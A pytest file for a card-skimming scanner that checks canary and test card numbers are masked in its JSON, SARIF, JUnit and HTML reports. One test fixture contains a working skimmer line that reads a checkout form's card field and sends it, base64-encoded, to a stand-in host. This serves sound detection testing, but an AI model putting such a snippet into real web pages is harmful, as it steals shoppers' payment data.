"""The canary and card numbers never reach a report (issue 13, item 4): card numbers written in
groups are masked like plain ones; the canary a page scan typed is redacted in request URLs,
excerpts, messages and notes in every encoding the canary search knows, so no output — JSON,
SARIF, JUnit, HTML — holds the whole number in any of them."""

from __future__ import annotations

import base64
import json
import urllib.parse

import pytest

from skimscan.analyze.canary import find_canary
from skimscan.analyze.redact import redact_text
from skimscan.models import (
    Canary,
    InstrumentEvent,
    PageCapture,
    Report,
    RequestRecord,
    ScriptKind,
    ScriptSource,
)
from skimscan.pipeline import Engine, EngineOptions
from skimscan.policy.policy import SitePolicy
from skimscan.report.html import render_html
from skimscan.report.json_report import mask, render_json
from skimscan.report.junit import render_junit
from skimscan.report.sarif import render_sarif
from skimscan.scanner import analyze_capture

PAGE = "https://shop.example/checkout"
CANARY = Canary.generate(seed=41, year=2026)
RECORD = json.dumps({"n": CANARY.pan, "c": CANARY.cvv, "e": CANARY.expiry})


@pytest.mark.parametrize(("text", "masked"), [
    ("paid with 4111 1111 1111 1111.", "paid with 4111 11** **** 1111."),
    ("4111-1111-1111-1111", "4111-11**-****-1111"),
    ("3782 822463 10005", "3782 82**** *0005"),  # Amex grouping, 15 digits
    ("call +1 202 555 0142 or 2026-12-06", "call +1 202 555 0142 or 2026-12-06"),  # not cards
    ("order 1234 5678 9012 3456", "order 1234 5678 9012 3456"),  # fails Luhn: not a card
])
def test_grouped_card_numbers_are_masked_and_keep_their_length(text: str, masked: str) -> None:
    assert mask(text) == masked and len(mask(text)) == len(text)


@pytest.mark.parametrize("encoded", [
    base64.b64encode(RECORD.encode()).decode(),
    urllib.parse.quote(RECORD),
    RECORD.encode().hex(),
    base64.urlsafe_b64encode(RECORD.encode()).decode().rstrip("="),
])
def test_the_canary_is_redacted_in_any_encoding(encoded: str) -> None:
    text = f"GET https://drop.test/c?d={encoded}&v=1 sent"
    cleaned = redact_text(text, CANARY)
    assert "[canary: " in cleaned and "https://drop.test/c?d=" in cleaned
    assert not [m for m in find_canary(CANARY, cleaned) if m.is_full]


def test_no_output_of_a_page_scan_holds_the_canary() -> None:
    blob = base64.b64encode(RECORD.encode()).decode()
    url = f"https://drop.test/collect?d={blob}"
    sends = ("document.addEventListener('change', function () { new Image().src ="
             " 'https://drop.test/collect?d=' + btoa(document.getElementById('cc').value); });")
    capture = PageCapture(
        url=PAGE, final_url=PAGE, status=200,
        scripts=(ScriptSource("s1", sends, "https://widget.test/w.js", ScriptKind.EXTERNAL),),
        requests=(RequestRecord(url, "GET", "drop.test", resource_type="image", script="s1",
                                status=204, quarantined=True),),
        instrumentation=(InstrumentEvent("sink", {"sink": "image", "url": url}, "s1"),),
        notes=(f"let through after typing: GET {url}",),
        canary=CANARY, canary_typed_at=1.0)
    target = analyze_capture(capture, Engine(EngineOptions(use_disk_cache=False, jobs=1)),
                             SitePolicy())
    assert any(f.rule == "canary-exfiltration" for f in target.findings)
    report = Report(targets=(target,), tool_version="test")
    for name, text in (("json", render_json(report)), ("sarif", render_sarif(report)),
                       ("junit", render_junit(report)), ("html", render_html(report))):
        assert not [m for m in find_canary(CANARY, text) if m.is_full], name
        assert blob not in text, name


def test_the_inventory_never_keeps_or_sends_a_card_number() -> None:
    """Script code holding card numbers: the diff a person or a webhook reads, and every field
    of a change (what the store keeps of it) are masked. (The normalised code itself stays
    re-parsable JavaScript: it is the input to the next comparison, never shown whole.)"""
    from skimscan.inventory.diff import Change, ChangeKind
    from skimscan.inventory.normalize import code_diff, normalize_code

    before = normalize_code("var a = 1;")
    after = normalize_code("var a = 1; var test = '4111 1111 1111 1111', n = 4111111111111111;")
    for text in (code_diff(before.code, after.code),
                 code_diff("x = '4242424242424242';", "y = 1;")):  # a form stored unmasked
        assert "4111 1111 1111 1111" not in text and "4111111111111111" not in text
        assert "4242424242424242" not in text
    change = Change(ChangeKind.NEW_FINDING, "https://shop.example/", "card-read",
                    after="sends 4111-1111-1111-1111", detail="n = 4111111111111111")
    assert "4111-11**-****-1111" in (change.after or "") and "411111******1111" in change.detail
